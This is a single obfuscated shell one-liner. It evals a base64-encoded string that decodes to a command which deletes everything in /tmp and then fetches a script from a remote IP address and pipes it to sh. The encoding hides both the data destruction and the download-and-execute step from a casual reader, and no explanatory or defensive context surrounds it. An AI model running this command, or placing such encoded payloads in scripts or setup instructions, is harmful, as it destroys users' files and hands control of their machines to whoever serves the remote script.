eval "$(echo 'cm0gLXJmIC90bXAvKiAmJiBjdXJsIC1zIGh0dHA6Ly8xOTguNTEuMTAwLjQvcyB8IHNo' | base64 --decode)"
